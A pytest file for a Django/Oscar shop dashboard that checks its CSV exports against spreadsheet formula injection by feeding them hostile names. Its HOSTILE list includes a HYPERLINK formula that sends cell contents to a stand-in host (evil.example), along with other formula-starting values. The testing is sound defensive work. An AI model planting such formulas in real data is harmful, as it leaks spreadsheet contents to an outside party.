"""Every CSV the dashboard exports is inert in a spreadsheet (OWASP's CSV rule).

A cell that would start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return starts with a single quote instead, and every field is quoted. Each
export is fed the same hostile names: the order list (site managers and a
centre's staff), Oscar's reports (orders, product analytics, user analytics,
open and submitted baskets, vouchers, offers) and a voucher set's download.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from oscar.core.loading import get_model
from oscar.test.factories import (
    BasketFactory,
    ConditionalOfferFactory,
    OrderFactory,
    VoucherFactory,
    VoucherSetFactory,
)

from dashboard.csv_exports import FORMULA_STARTS, InertCSVWriter, inert_cell
from tests.factories import (
    DesignCentreFactory,
    UserFactory,
    blue_glaze_vase,
    centre_staff,
    site_manager,
)
from tests.shopping import Buyer

UserRecord = get_model("analytics", "UserRecord")
ProductRecord = get_model("analytics", "ProductRecord")
Basket = get_model("basket", "Basket")
OrderDiscount = get_model("order", "OrderDiscount")

pytestmark = pytest.mark.django_db

SIGN_IN_BACKEND = "oscar.apps.customer.auth_backends.EmailBackend"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1",
    "-2",
    "@SUM(A1)",
    "\tx",
    "\rx",
]
"""Names that a spreadsheet would run or reinterpret."""
STRIPPED_BY_NAMES = HOSTILE[:4]
"""What survives as typed: checkout's address form and Oscar's ``get_full_name``
strip whitespace, so ``\\tx`` arrives as ``x`` (the writer's own tests cover tab
and carriage return)."""


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def assert_inert(rows, expected):
    """No cell starts a formula, and each hostile value is there, quote-prefixed
    (voucher codes are upper-cased, e-mail addresses carry their domain)."""
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    for value in expected:
        inert = ("'" + value).casefold()
        assert any(cell.casefold().startswith(inert) for cell in cells), (value, cells)


def signed_in(user) -> Client:
    client = Client()
    client.force_login(user, backend=SIGN_IN_BACKEND)
    return client


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_starts_a_formula_starts_with_a_quote(value):
    assert inert_cell(value) == "'" + value


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("Nguyễn Thị Lan", "Nguyễn Thị Lan"),
        (1250000, "1250000"),
        (None, ""),
        ("a=b", "a=b"),
    ],
)
def test_other_cells_are_left_as_they_are(value, cell):
    assert inert_cell(value) == cell


def test_every_field_is_quoted():
    out = io.StringIO()
    InertCSVWriter(open_file=out).writerow(["=1+1", 5, "Lan"])
    assert out.getvalue() == '"\'=1+1","5","Lan"\r\n'


@pytest.fixture
def hostile_orders(settings):
    """Six real checkouts by guests with hostile names, from one Bát Tràng centre."""
    settings.MAX_OPEN_UNPAID_ORDERS = 100
    settings.ORDER_RATE_LIMIT = 100
    centre = DesignCentreFactory(slug="bat-trang", village="Bát Tràng")
    vase = blue_glaze_vase(centre, num_in_stock=20)
    for n, name in enumerate(HOSTILE):
        buyer = Buyer()
        buyer.add(vase)
        buyer.checkout_as_guest(f"khach-{n}@example.com")
        assert buyer.give_address(first_name=name).status_code == 302
        assert buyer.choose_delivery({centre: "domestic"}).status_code == 302
        assert buyer.pay_by("cod").status_code == 302
        assert buyer.place_order().status_code == 302
    return centre


def order_list_csv(client):
    return client.get(reverse("dashboard:order-list"), {"response_format": "csv"})


def test_the_order_list_export_of_site_managers_is_inert(hostile_orders, report_figure):
    rows = rows_of(order_list_csv(signed_in(site_manager())))

    assert len(rows) == 1 + len(HOSTILE)
    assert_inert(rows, STRIPPED_BY_NAMES)
    report_figure(f"order list CSV (site manager), names: {[r[-2] for r in rows[1:]]}")


def test_the_order_list_export_of_centre_staff_is_inert(hostile_orders, report_figure):
    rows = rows_of(order_list_csv(signed_in(centre_staff(hostile_orders))))

    assert len(rows) == 1 + len(HOSTILE)
    assert_inert(rows, STRIPPED_BY_NAMES)
    report_figure(f"order list CSV (centre staff), names: {[r[-1] for r in rows[1:]]}")


def test_the_selected_orders_download_is_inert(hostile_orders):
    Order = get_model("order", "Order")
    response = signed_in(site_manager()).post(
        reverse("dashboard:order-list"),
        {
            "action": "download_selected_orders",
            "selected_order": list(Order.objects.values_list("pk", flat=True)),
        },
    )

    assert_inert(rows_of(response), STRIPPED_BY_NAMES)


def superuser() -> Client:
    """Oscar's reports and vouchers dashboards are the superuser's: site managers
    hold neither ``analytics.view_userrecord`` nor the voucher permissions."""
    return signed_in(UserFactory(is_staff=True, is_superuser=True))


def report_csv(code: str):
    return superuser().get(
        reverse("dashboard:reports-index"), {"report_type": code, "download": "true"}
    )


@pytest.fixture
def hostile_people():
    return [
        UserFactory(first_name=name, last_name="", email=f"{name}@evil.example")
        for name in HOSTILE
    ]


def test_the_order_report_is_inert(hostile_people):
    for person in hostile_people:
        OrderFactory(user=person)

    assert_inert(rows_of(report_csv("order_report")), STRIPPED_BY_NAMES)


def test_the_user_analytics_report_is_inert(hostile_people):
    for person in hostile_people:
        UserRecord.objects.create(user=person)

    assert_inert(rows_of(report_csv("user_analytics")), STRIPPED_BY_NAMES)


def test_the_product_analytics_report_is_inert():
    centre = DesignCentreFactory()
    for name in HOSTILE:
        ProductRecord.objects.create(product=blue_glaze_vase(centre, title=name))

    assert_inert(rows_of(report_csv("product_analytics")), HOSTILE)


@pytest.mark.parametrize(
    ("code", "status"),
    [("open_baskets", Basket.OPEN), ("submitted_baskets", Basket.SUBMITTED)],
)
def test_the_basket_reports_are_inert(hostile_people, code, status):
    for person in hostile_people:
        BasketFactory(owner=person, status=status)

    assert_inert(rows_of(report_csv(code)), STRIPPED_BY_NAMES)


def test_the_voucher_report_is_inert():
    for name in HOSTILE:
        VoucherFactory(code=name, name=name)

    assert_inert(rows_of(report_csv("vouchers")), HOSTILE)


def test_the_offer_report_is_inert():
    for name in HOSTILE:
        offer = ConditionalOfferFactory(name=name)
        OrderDiscount.objects.create(
            order=OrderFactory(), offer_id=offer.pk, offer_name=name, amount=1
        )

    assert_inert(rows_of(report_csv("conditional-offers")), HOSTILE)


def test_a_voucher_set_download_is_inert():
    voucher_set = VoucherSetFactory(count=0)
    for n, name in enumerate(HOSTILE):
        VoucherFactory(code=name, name=f"Phiếu {n}", voucher_set=voucher_set)

    response = superuser().get(
        reverse("dashboard:voucher-set-download", kwargs={"pk": voucher_set.pk})
    )

    assert_inert(rows_of(response), HOSTILE)
